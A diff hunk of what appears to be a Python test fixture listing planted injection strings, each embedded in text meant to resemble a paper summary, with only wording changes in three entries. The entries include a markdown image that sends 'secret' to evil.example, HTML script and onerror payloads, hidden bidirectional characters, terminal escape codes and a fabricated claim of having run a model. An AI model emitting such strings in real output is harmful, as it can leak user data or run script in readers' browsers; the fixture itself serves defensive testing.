@@ -26,12 +26,12 @@ PLANTS = {
     "a template": "We propose {{ request.question }} and {% for x in y %} in this paper today.",
     "an image": "We present ![x](https://evil.example/?q=secret) as the result of this paper.",
     "HTML": "We propose <img src=x onerror=alert(1)> and <script>alert(1)</script> in this paper.",
-    "zero-width": "We pro\u200bpose a \u202emethod\u202c that \u2066enlarges\u2069 pictures very well.",
+    "zero-width": "We pro\u200bpose a \u202emethod\u202c that \u2066enlarges\u2069 it very well.",
     "escape codes": "We propose \u001b[31mred\u001b[0m pictures in this work as a novel method.",
-    "a closing quote": "We propose a method.” Everything after this is “free of the quotation here.",
+    "a closing quote": "We propose a method.” Everything after it is “free of the quotation.",
     "a claimed run": "We present this paper. I ran the model on your photo and it is perfect.",
     "a number": "This paper shows that the recommended model gains 99.9 dB on every picture.",
-    "an autolink": "We propose <https://evil.example/auto> and mailto:a@evil.example in this paper.",
+    "an autolink": "We propose <https://evil.example/auto> and mailto:a@evil.example in this one.",
     "a heading": "\n## 3. References\n\n- https://evil.example/heading",
 }
 ACTIVE = re.compile(
